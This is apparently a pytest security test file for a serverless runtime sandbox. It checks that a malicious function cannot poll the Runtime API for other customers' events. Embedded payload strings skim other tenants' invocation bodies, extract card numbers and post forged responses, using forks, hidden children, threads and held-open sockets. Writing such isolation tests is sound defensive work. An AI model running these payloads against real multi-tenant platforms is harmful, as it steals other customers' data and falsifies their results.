"""The worker that becomes the runtime (L2; T1557 Adversary-in-the-Middle, M5): polling for other customers' events.

The Runtime API asks no one for a name, and its address is the same in every environment of Lambda's: what a worker's variable
names instead keeps nobody from it. The payload answers its own event and
polls for the next ones, itself or through a child. It must receive no event of anybody else, and every
customer must be answered by the function.
"""

from __future__ import annotations

import json
import os
import random

import pytest
from tests.attacks.shop import Shop, needs_confinement

pytestmark = needs_confinement()

CLIENT = """
import http.client, json
address = event["api"]
base = "/2018-06-01/runtime/invocation/"
def call(method, path, body=None, timeout=1.5):
    connection = http.client.HTTPConnection(address, timeout=timeout)
    try:
        connection.request(method, base + path, body)
        reply = connection.getresponse()
        return reply.status, dict(reply.getheaders()), reply.read()
    except OSError:
        return 0, {}, b""
    finally:
        connection.close()
mine = context.aws_request_id
def skim(seconds):
    end = time.time() + seconds
    while time.time() < end:
        status, headers, body = call("GET", "next")
        found = headers.get("Lambda-Runtime-Aws-Request-Id")
        if status == 200 and found != mine:
            leak(body.decode())
            card = json.loads(body).get("card", "")
            call("POST", found + "/response", json.dumps({"mark": card, "paid_by": card[-4:]}))
        if status != 200:
            time.sleep(0.001)
"""
ATTACKS = {
    "answers for itself and polls on": "call('POST', mine + '/response', '1'); skim(4)",
    "polls in the window, by a child": "if os.fork() == 0: skim(4); os._exit(0)",
    "polls in the window, by a hidden child": """
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0: skim(4)
    os._exit(0)
time.sleep(0.02)
""",
    "polls in the window, by threads": """
import threading
for _ in range(8): threading.Thread(target=skim, args=(4,), daemon=True).start()
time.sleep(0.02)
""",
    "reports an error for itself and polls on": "call('POST', mine + '/error', '{}'); skim(4)",
    "has a poll outstanding when it answers": """
out = socket.create_connection(tuple(address.split(":")))
out.sendall(b"GET " + base.encode() + b"next HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
""",
}


@pytest.mark.parametrize("name", ATTACKS)
def test_no_event_of_another_customer_is_received(name: str) -> None:
    with Shop("dayfly", timeout_s=3) as shop:
        shop.serve(1)
        shop.attack(CLIENT + ATTACKS[name])
        # A request for the next event that the platform reads after its sender's death and after the answer
        # swallows that event: docs/security.md, out of reach. Nobody gets it.
        cards = shop.serve(6, may_time_out=0)
        assert shop.stolen(cards) == 0
        assert all(json.dumps(card) not in datagram for datagram in shop.sink.received() for card in cards)


def test_a_plain_environment_is_taken_over(plain_shop: Shop) -> None:
    plain_shop.attack(CLIENT + ATTACKS["answers for itself and polls on"])
    assert plain_shop.stolen(plain_shop.serve(4)) == 4


MIXED = {
    "pays": "",
    "raises": "raise ValueError('no')",
    "exits": "os._exit(3)",
    "leaves by sys.exit": "sys.exit(1)",
    "is killed": "os.kill(os.getpid(), 9)",
    "crashes": "import ctypes; ctypes.string_at(0)",
    "forks": "if os.fork() == 0: time.sleep(3)",
    "forks and kills the zygote": "z = os.getppid()\nif os.fork() == 0: time.sleep(3)\nos.kill(z, 9)",
    "writes files": "open('/tmp/%d' % os.getpid(), 'w').write('x' * 100)",
    "answers twice": """
import struct
frame = sys._getframe()
while "lambda_runtime_client" not in frame.f_locals: frame = frame.f_back
client = frame.f_locals["lambda_runtime_client"]
body = b'"mine"'
client._work.socket.sendall((struct.pack("!16sBIQ", client._nonce, 1, 3, len(body)) + b"a/b" + body) * 2)
""",
}


@pytest.mark.slow
def test_three_hundred_mixed_invocations_cross_no_answers() -> None:
    """Every answer is its own request's, whatever happened to the worker before."""
    order = random.Random(20260101)
    with Shop("dayfly") as shop:
        shop.serve(1)
        rebuilt = 0
        for at in range(300):
            kind = order.choice(list(MIXED))
            # A rebuilt zygote is a cold start; a few show what a hundred would.
            if kind == "forks and kills the zygote":
                rebuilt += 1
                if rebuilt > 8:
                    kind = "forks"
            answer = shop.rie.invoke({"card": f"{at:016d}", "mark": f"mark-{at}"})
            assert json.loads(answer.body)["mark"] == f"mark-{at}", f"after {at} invocations"
            if kind != "pays":
                code = MIXED[kind] + f"\nresult = 'mark-{at}'"
                body = shop.attack(code).body
                named = {f"mark-{other}" for other in range(max(0, at - 20), at + 20)} & set(
                    body.decode().replace('"', " ").split()
                )
                assert named <= {f"mark-{at}"}
        supervisor = shop.rie.runtime_pids()[0]
        descriptors = len(os.listdir(f"/proc/{supervisor}/fd"))
        assert descriptors < 40, "descriptors leak"
